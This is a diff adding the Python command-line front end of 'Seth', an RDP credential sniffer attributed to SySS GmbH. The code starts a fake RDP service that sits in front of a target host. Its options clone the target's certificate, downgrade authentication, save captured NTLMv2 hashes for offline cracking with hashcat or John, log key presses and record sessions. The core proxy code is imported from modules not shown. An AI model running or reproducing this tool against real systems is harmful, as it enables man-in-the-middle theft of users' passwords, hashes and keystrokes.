@@ -0,0 +1,120 @@
+"""
+The command line of the sniffer, see rdp-cred-sniffer.py
+"""
+
+import argparse
+import contextlib
+import importlib.util
+import os
+import sys
+
+from seth import metrics, output, profiling
+
+parser = argparse.ArgumentParser(
+    description="RDP credential sniffer -- Adrian Vollmer, SySS GmbH 2017")
+parser.add_argument('-d', '--debug', dest='debug', action="store_true",
+    default=False, help="keep the latest PDUs of each session and show them "
+    "on errors, NLA, SIGUSR2 and when the session ends")
+parser.add_argument('--debug-sample', dest='debug_sample', type=int,
+    default=1, help="with -d, only keep every n-th chunk of data (default 1)")
+parser.add_argument('-p', '--listen-port', dest='listen_port', type=int,
+    default=3389, help="TCP port to listen on (default 3389)")
+parser.add_argument('-b', '--bind-ip', dest='bind_ip', type=str, default="",
+    help="IP address to bind the fake service to (default all)")
+parser.add_argument('-g', '--downgrade', dest='downgrade', type=int,
+    default=3, action="store", choices=[0,1,3,11],
+    help="downgrade the authentication protocol to this (default 3)")
+parser.add_argument('-c', '--certfile', dest='certfile', type=str,
+    default=None, help="path to the certificate file (default: clone the "
+    "target's certificate)")
+parser.add_argument('-k', '--keyfile', dest='keyfile', type=str,
+    default=None, help="path to the key file")
+parser.add_argument('--cert-cache', dest='cert_cache', type=str,
+    default=os.path.join(os.environ.get("XDG_CACHE_HOME")
+                         or os.path.expanduser("~/.cache"), "seth"),
+    help="directory for cloned certificates (default %(default)s)")
+parser.add_argument('--clone-cert', dest='clone_cert', action="store_true",
+    default=False, help="only clone the target's certificate, print the "
+    "paths of the key and the certificate and exit")
+parser.add_argument('-o', '--output', dest='output', type=str, default=None,
+    help="append everything that was extracted to this file as JSON lines")
+parser.add_argument('--hashes', dest='hashes', type=str, default=None,
+    help="append NTLMv2 hashes to this file, for hashcat or John")
+parser.add_argument('--keys', dest='keys', type=str, default=None,
+    help="append key presses to this file")
+parser.add_argument('-r', '--record', dest='record', type=str, default=None,
+    help="record each session to a file in this directory")
+parser.add_argument('--stats', dest='stats', action="store_true",
+    default=False, help="collect statistics, print them on SIGUSR1 and exit")
+parser.add_argument('--stats-socket', dest='stats_socket', type=str,
+    default=None, help="collect statistics and serve them as JSON on this "
+    "UNIX socket")
+parser.add_argument('--profile-dir', dest='profile_dir', type=str,
+    default=None, help="profile the forwarding on SIGRTMIN and trace "
+    "allocations on SIGRTMIN+1, until the next signal, and write the "
+    "reports to this directory")
+parser.add_argument('target_host', type=str,
+    help="target host of the RDP service")
+parser.add_argument('target_port', type=int, default=3389, nargs='?',
+    help="TCP port of the target RDP service (default 3389)")
+
+
+def clone_certificate(args):
+    """Clone the target's certificate, exit if not even a self-signed one
+    can be had"""
+    from seth import certs
+    try:
+        return certs.clone_certificate(args.target_host, args.target_port,
+                                       args.cert_cache)
+    except certs.CertificateError as e:
+        print(e, file=sys.stderr)
+        sys.exit(1)
+
+
+def main():
+    args = parser.parse_args()
+    # The proxy and the certificates are only imported when they are
+    # needed, so that -h and --clone-cert start fast
+    if args.clone_cert:
+        # Only the paths go to stdout, for scripts
+        with contextlib.redirect_stdout(sys.stderr):
+            certfile, keyfile = clone_certificate(args)
+        print(keyfile)
+        print(certfile)
+        return
+    if args.certfile is None or args.keyfile is None:
+        args.certfile, args.keyfile = clone_certificate(args)
+    if args.debug and importlib.util.find_spec("hexdump") is None:
+        print("Warning: The python3 module 'hexdump' is missing.  "
+              "Using hexlify instead.", file=sys.stderr)
+    if args.record:
+        # Recorders are opened as connections come in, too late to fail
+        try:
+            os.makedirs(args.record, exist_ok=True)
+        except OSError as e:
+            parser.error("cannot create %s: %s" % (args.record, e.strerror))
+
+    import asyncio
+    from seth import crypto, proxy
+    from seth.crypto import key_pool
+    proxy.args = args
+    # Import cryptography and load OpenSSL's RC4 now rather than in the
+    # middle of the first handshake, on the event loop
+    if crypto.load_cryptography():
+        crypto.RC4(bytes(16))
+    key_pool.start()
+    output.start(args.output, args.hashes, args.keys)
+    if args.stats or args.stats_socket:
+        metrics.enable_stats()
+    if args.profile_dir:
+        profiling.set_directory(args.profile_dir)
+    proxy.create_ssl_contexts()
+    try:
+        asyncio.run(proxy.serve())
+    except KeyboardInterrupt:
+        pass
+    finally:
+        profiling.stop()
+        if metrics.stats is not None:
+            metrics.dump_stats()
+        output.stop()